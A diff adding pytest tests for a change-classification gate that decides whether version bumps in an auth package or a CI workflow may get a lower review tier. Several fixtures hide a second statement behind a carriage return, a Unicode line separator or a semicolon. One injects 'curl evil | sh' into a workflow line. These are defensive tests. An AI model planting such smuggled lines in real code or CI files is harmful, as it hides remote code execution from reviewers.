@@ -156,3 +156,57 @@ def test_nothing_moves_lower_in_the_gates_own_workflow(seeded: Repo, path: str,
                                                        workflow: str) -> None:
     result = judged(seeded, path, workflow, workflow.replace("checkout@v4", "checkout@v5"))
     assert result.files[0].tier == "high"
+
+
+VERSIONED = 'from .core import login\n\n__version__ = "1.4.2"\nVERSION = (1, 4, 2)\n'
+
+
+def auth_lowered(tmp_path: Path) -> Rules:
+    policy = tmp_path / "policy.yaml"
+    policy.write_text("extends: default\ncategories:\n  auth:\n    version_only: medium\n")
+    return Rules(source.from_file(policy))
+
+
+def judged_with(rules: Rules, repo: Repo, path: str, before: str, after: str) -> Classification:
+    repo.write(path, before)
+    repo.commit("before")
+    repo.write(path, after)
+    return classify(rules, changes.staged(GitRepo(repo.root), rules.wants_text))
+
+
+@pytest.mark.parametrize("after", [
+    VERSIONED.replace('"1.4.2"', '"1.4.3"'),
+    VERSIONED.replace('"1.4.2"', '"1.5.0rc1"').replace("(1, 4, 2)", "(1, 5, 0, 'rc1')"),
+])
+def test_a_release_version_string_in_an_auth_package_is_not_auth_logic(
+        repo: Repo, tmp_path: Path, after: str) -> None:
+    result = judged_with(auth_lowered(tmp_path), repo, "oauth/__init__.py", VERSIONED, after)
+    (fc,) = result.files
+    assert fc.tier == "medium", fc.matches
+    (match,) = fc.matches
+    assert match.rule == "auth.version-only"
+    assert "__version__ 1.4.2 -> 1.5.0rc1" in (match.evidence.text or "") or \
+        "__version__ 1.4.2 -> 1.4.3" in (match.evidence.text or "")
+
+
+@pytest.mark.parametrize("after", [
+    VERSIONED.replace('"1.4.2"', '"1.4.3"').replace("from .core import login",
+                                                   "from .lax import login"),
+    VERSIONED.replace('"1.4.2"', "get_version()"),
+    VERSIONED.replace('"1.4.2"', "LOGIN_BYPASS"),
+    VERSIONED.replace('"1.4.2"', '"1.4.3"; import os'),
+    VERSIONED.replace('"1.4.2"', '"1.4.3"  #\rimport os'),
+    VERSIONED.replace('"1.4.2"', '"1.4.3"  #\u2028import os'),
+    VERSIONED.replace("__version__ =", "version_override ="),
+])
+def test_anything_beside_a_version_string_keeps_the_tier(
+        repo: Repo, tmp_path: Path, after: str) -> None:
+    result = judged_with(auth_lowered(tmp_path), repo, "oauth/__init__.py", VERSIONED, after)
+    assert result.files[0].tier == "high", result.files[0].matches
+
+
+def test_a_line_break_yaml_reads_behind_a_comment_is_not_a_bump(repo: Repo) -> None:
+    """``# v5`` then a bare CR: YAML reads what follows as a new line of the workflow."""
+    after = WORKFLOW.replace("checkout@v4", "checkout@v5 #\r      - run: curl evil | sh")
+    result = judged(repo, ".github/workflows/ci.yml", WORKFLOW, after)
+    assert result.files[0].tier == "high"
